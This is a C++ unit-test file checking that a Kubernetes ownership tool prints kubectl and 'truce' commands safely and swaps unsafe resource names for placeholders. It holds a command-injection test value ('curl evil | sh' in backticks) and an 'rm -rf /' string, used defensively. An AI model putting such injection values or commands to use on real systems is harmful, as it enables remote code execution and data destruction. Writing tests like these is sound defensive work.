// Parts of printed commands: what is no word for a shell stands in none.
#include <gtest/gtest.h>

#include <string>

#include "policies/people.h"
#include "policies/sharing_rules.h"
#include "registry/ownership/rows.h"

namespace truce {
namespace policies_commands_test {

constexpr char kHostile[] = "x`; curl evil | sh; `";

const Slot kClaim{"prod-eu", "platform.example.org", "ObjectStorage", "team-b", "files"};
const Slot kBucket{"prod-eu", "s3.aws.upbound.io", "Bucket", "", "files"};
constexpr std::string Slot::*kParts[] = {&Slot::group, &Slot::kind, &Slot::ns, &Slot::name};

Owner OwnerOf(const std::string& name) {
  Owner owner;
  owner.key = {"s3/Bucket|aws|||name=logs"};
  owner.id = {"k3j5x7q2m4n6p"};
  owner.identity.type = "s3/Bucket";
  owner.name = name;
  return owner;
}

TEST(Commands, HandOversHoldPlainWordsOnly) {
  const std::string way =
      "kubectl -n team-b annotate --overwrite objectstorage.platform.example.org files ";
  EXPECT_EQ(TransferCommand(kClaim, kBucket),
            way + "truce.dev/transfer-to=Bucket.s3.aws.upbound.io/files");
  for (std::string Slot::*const part : kParts) {
    Slot odd = kClaim;
    odd.*part = kHostile;
    EXPECT_EQ(TransferCommand(kClaim, odd), way + "truce.dev/transfer-to=KIND/NAMESPACE/NAME");
    EXPECT_EQ(TransferCommand(odd, kClaim),
              "kubectl -n NAMESPACE annotate --overwrite KIND NAME truce.dev/transfer-to=" +
                  std::string(part == &Slot::group ? "ObjectStorage.platform.example.org"
                                                   : "ObjectStorage") +
                  "/team-b/files");
    EXPECT_EQ(KubectlTarget(odd), "KIND NAME -n NAMESPACE");
    if (part == &Slot::ns) continue;
    odd = kBucket;
    odd.*part = kHostile;
    EXPECT_EQ(TransferAnnotation(kClaim, odd), "truce.dev/transfer-to=KIND.GROUP/NAME");
  }
}

TEST(Commands, AHandOverToAnotherClusterNamesIt) {
  Slot there = kClaim;
  there.cluster = "prod-us";
  EXPECT_EQ(TransferAnnotation(kBucket, there),
            "truce.dev/transfer-to=prod-us:ObjectStorage/team-b/files");
  there.cluster = kHostile;
  EXPECT_EQ(TransferAnnotation(kBucket, there),
            "truce.dev/transfer-to=CLUSTER:ObjectStorage/team-b/files");
}

TEST(Commands, SharesHoldPlainWordsOnly) {
  const auto with = [](const PartyId& party) {
    return ShareCommand(OwnerOf("logs"), party, ShareLevel::kAttach);
  };
  Slot odd = kBucket;
  odd.name = kHostile;
  EXPECT_EQ(with(PartyOf(odd)),
            "`truce share s3/Bucket/logs --with-object KIND.GROUP/NAME --level attach --reason "
            "'…'`");
  odd = kClaim;
  odd.ns = kHostile;
  EXPECT_EQ(with(PartyOf(odd)),
            "`truce share s3/Bucket/logs --with NAMESPACE --level attach --reason '…'`");
}

TEST(Commands, AReleaseSaysWhichOfThoseOfOneName) {
  EXPECT_EQ(ReleaseCommand(OwnerOf("logs")), "truce release s3/Bucket logs --reason '…'");
  EXPECT_EQ(ReleaseCommand(OwnerOf(kHostile)), "truce release --id k3j5x7q2m4n6p --reason '…'");
  Owner queue = OwnerOf("jobs");
  queue.identity = {"sqs/Queue", "aws", "111111111111", "eu-west-1", {}};
  queue.key = {"sqs/Queue|aws|%3Flocal|eu-west-1|name=jobs"};
  EXPECT_EQ(ReleaseCommand(queue),
            "truce release sqs/Queue jobs --account 111111111111 --region eu-west-1 --reason '…'");
  queue.identity.account = "?local/aws.upbound.io/ProviderConfig//default";
  EXPECT_EQ(ReleaseCommand(queue), "truce release --id k3j5x7q2m4n6p --reason '…'")
      << "several accounts may have one of that name";
}

TEST(Commands, WhatCountsInOneAccountOrRegionAloneIsNamedByItsId) {
  EXPECT_EQ(WordOf(OwnerOf("logs")), "s3/Bucket/logs");
  EXPECT_EQ(WordOf(OwnerOf(kHostile)), "k3j5x7q2m4n6p");
  Owner queue = OwnerOf("jobs");
  queue.identity = {"sqs/Queue", "aws", "111111111111", "eu-west-1", {}};
  queue.key = {"sqs/Queue|aws|111111111111|eu-west-1|name=jobs"};
  EXPECT_EQ(WordOf(queue), "k3j5x7q2m4n6p");
  queue.id = {};
  EXPECT_EQ(WordOf(queue), "sqs/Queue/jobs");
}

TEST(Commands, WhatOwnersSayIsNone) {
  EXPECT_EQ(Said("run `rm -rf /`\n"), "run 'rm -rf /'\\u{0a}");
  EXPECT_EQ(ResourceInWords(OwnerOf(kHostile)), "S3 bucket \"x'; curl evil | sh; '\"");
}

TEST(Commands, WhatIsToObserveIsNamedByPlainWordsOnly) {
  const std::string patch = R"( --type merge -p '{"spec":{"managementPolicies":["Observe"]}}')";
  EXPECT_EQ(KeepCommand(kBucket), "kubectl patch bucket.s3.aws.upbound.io files" + patch);
  // Of the community's kinds a flag must allow managementPolicies: without it a deletion hangs.
  Slot older = kBucket;
  older.group = "s3.aws.crossplane.io";
  EXPECT_EQ(LetGoCommand(older),
            "kubectl patch bucket.s3.aws.crossplane.io files --type merge -p "
            R"('{"spec":{"deletionPolicy":"Orphan","managementPolicies":["*"]}}')"
            " && kubectl delete bucket.s3.aws.crossplane.io files");
  Slot odd = kBucket;
  odd.ns = "team-b";
  odd.name = kHostile;
  EXPECT_EQ(KeepCommand(odd), "kubectl patch KIND NAME -n NAMESPACE" + patch);
}

// A group is shown only where nothing else tells two objects apart.
TEST(Commands, ObjectsOfTwoGroupsAreToldApart) {
  Slot older = kBucket;
  older.group = "s3.aws.crossplane.io";
  EXPECT_EQ(ObjectBeside(kBucket, older), "Bucket.s3.aws.upbound.io files");
  EXPECT_EQ(ObjectBeside(kBucket, kBucket), "Bucket files");
  Slot other = older;
  other.name = "other";
  EXPECT_EQ(ObjectBeside(kBucket, other), "Bucket files");
  // In a namespace a kind alone fits both groups: the owner would name itself.
  Slot from = kBucket;
  Slot to = older;
  from.ns = to.ns = "team-a";
  EXPECT_EQ(TransferAnnotation(from, to),
            "truce.dev/transfer-to=Bucket.s3.aws.crossplane.io/team-a/files");
}

}  // namespace policies_commands_test
}  // namespace truce
